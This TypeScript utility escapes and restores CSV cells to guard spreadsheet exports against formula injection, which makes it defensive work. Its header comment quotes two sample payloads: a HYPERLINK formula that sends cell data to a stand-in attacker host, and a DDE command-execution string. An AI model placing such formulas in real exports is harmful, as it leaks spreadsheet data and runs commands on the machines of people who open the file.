// Spreadsheet formula injection (OWASP "CSV Injection"): a text cell that starts with = + - @, TAB
// or CR is run as a formula when the file is opened in Excel or LibreOffice, e.g.
// =HYPERLINK("https://evil.example?"&A1) or +cmd|' /C calc'!A0. Exports put a single quote before
// such a cell, which spreadsheets read as "this is text". Only free-text cells pass through here,
// never numbers, so -3 in a numeric column stays -3.
//
// The rule is a bijection, so that import → export → import keeps every text exactly:
//   export: a text matching  '*[=+-@\t\r]  (any number of quotes, then a trigger) gets one more ' in front;
//   import: a cell matching  '+[=+-@\t\r]  loses exactly one leading '.
// Every other text is written and read unchanged, including one that starts with ' followed by
// anything else ('t Hoekje stays 't Hoekje). A genuine text '=1 is written ''=1 and read back as '=1.

const NEEDS_QUOTE = /^'*[=+\-@\t\r]/;
const ADDED_QUOTE = /^'+[=+\-@\t\r]/;

/** The cell as written to a CSV export. */
export function neutraliseFormula(text: string): string {
  return NEEDS_QUOTE.test(text) ? `'${text}` : text;
}

/** The text of a cell read from a CSV import: undoes neutraliseFormula. */
export function restoreFormula(cell: string): string {
  return ADDED_QUOTE.test(cell) ? cell.slice(1) : cell;
}
